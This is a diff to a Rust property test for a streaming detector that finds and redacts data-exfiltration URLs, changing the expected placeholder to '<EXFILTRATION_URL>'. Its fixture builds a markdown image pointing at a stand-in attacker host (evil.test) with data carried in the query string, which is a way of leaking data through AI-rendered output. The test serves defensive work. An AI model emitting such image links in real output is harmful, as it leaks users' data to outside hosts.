@@ -85,9 +85,9 @@ proptest! {
     ) {
         let text = format!("{before}![p](https://evil.test/p.png?q={value}) {after}");
         let analyser = Analyser::new(vec![Box::new(Exfiltration::default())]);
-        let mut replace = |_: &Finding, _: &str, out: &mut String| out.push_str("<GONE>");
+        let mut replace = crate::Redact;
         let whole = crate::stream::rewrite(&analyser, &Wanted::default(), &text, &mut replace).unwrap();
-        prop_assert!(whole.contains("![p](<GONE>)"), "{}", whole);
+        prop_assert!(whole.contains("![p](<EXFILTRATION_URL>)"), "{}", whole);
         let mut rewriter = crate::Rewriter::new(&analyser, &Wanted::default());
         let (head, tail) = text.split_at(cut.min(text.len()));
         let mut out = rewriter.push(head, &mut replace).unwrap();
